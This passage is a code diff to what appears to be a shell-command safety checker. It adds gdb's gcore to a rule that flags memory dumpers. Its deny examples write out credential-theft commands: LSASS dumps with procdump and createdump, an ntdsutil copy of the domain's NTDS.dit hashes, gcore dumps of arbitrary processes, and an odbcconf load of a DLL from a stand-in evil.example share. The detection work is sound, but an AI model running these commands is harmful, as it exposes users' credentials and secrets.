@@ -509,10 +509,16 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
     examples: { deny: [ps('odbcconf.exe /f x.rsp'), ps('odbcconf /a {REGSVR \\\\evil.example\\share\\x.dll}')], pass: [ps('odbcconf /a {REGSVR C:\\tools\\driver.dll}')] },
   },
   {
-    names: ['procdump', 'procdump64', 'createdump', 'sqldumper', 'rdrleakdiag', 'dump64', 'ntdsutil'],
-    summary: "Memory dumpers (procdump, .NET's createdump, sqldumper, rdrleakdiag, dump64): a process's memory in a file, LSASS's (the users' credentials) or one named by a PID that may be it; ntdsutil ifm/snapshot copies the domain's NTDS.dit with its hashes",
+    names: ['procdump', 'procdump64', 'createdump', 'sqldumper', 'rdrleakdiag', 'dump64', 'ntdsutil', 'gcore'],
+    summary: "Memory dumpers (procdump, .NET's createdump, sqldumper, rdrleakdiag, dump64, gdb's gcore): a process's memory in a file, LSASS's (the users' credentials) or one named by a PID that may be it; ntdsutil ifm/snapshot copies the domain's NTDS.dit with its hashes",
     analyze: (call) => {
       const texts = call.args.map((w) => value(w));
+      // gcore [-a] [-o PREFIX] PID…: every operand is a PID, any process the user runs (the agent, ssh-agent).
+      if (call.name === 'gcore') {
+        if (texts.some((t) => t === '--help' || t === '--version' || t === '-h')) return {};
+        const at = call.args.find((_, i) => texts[i] === undefined || (!texts[i]!.startsWith('-') && texts[i - 1] !== '-o'));
+        return at ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: at, why: `gcore writes the memory of process ${at.text} to a file: its secrets and its environment with it` }] } : {};
+      }
       if (call.name === 'ntdsutil') {
         const at = call.args.find((_, i) => texts[i] === undefined || /\b(?:ifm|snapshot)\b/i.test(texts[i]!));
         return at ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: at, why: "ntdsutil ifm and snapshot copy NTDS.dit, the domain's password hashes" }] } : {};
@@ -521,7 +527,7 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
       const at = call.args.find((_, i) => texts[i] === undefined || /^lsass(?:\.exe)?$/i.test(texts[i]!) || (/^\d+$/.test(texts[i]!) && !/^[-/](?:n|s|c|cl|m|ml|p|pl|e|u|t|r|at|f|o|d)$/i.test(texts[i - 1] ?? '')));
       return at ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: at, why: `${call.name} writes a process's memory to a file: LSASS's holds the users' credentials, another's its secrets` }] } : {};
     },
-    examples: { deny: [ps('procdump -ma lsass.exe l.dmp'), ps('procdump64.exe -accepteula -ma (Get-Process lsass).Id l.dmp'), ps('createdump.exe -u -f l.dmp 624'), ps('ntdsutil "ac i ntds" "ifm" "create full c:\\x" q q')], pass: [ps('procdump -ma myapp.exe crash.dmp'), ps('procdump -ma -n 3 -s 5 myapp.exe')] },
+    examples: { deny: ['gcore 1234', 'gcore -o /tmp/core $(pidof node)', 'sudo gcore -a 1', ps('procdump -ma lsass.exe l.dmp'), ps('procdump64.exe -accepteula -ma (Get-Process lsass).Id l.dmp'), ps('createdump.exe -u -f l.dmp 624'), ps('ntdsutil "ac i ntds" "ifm" "create full c:\\x" q q')], pass: [ps('procdump -ma myapp.exe crash.dmp'), ps('procdump -ma -n 3 -s 5 myapp.exe'), 'gcore --help', 'gdb -batch -ex bt ./a.out core.1234'] },
   },
   {
     names: ['cdb', 'ntsd', 'windbg', 'windbgx', 'kd'],
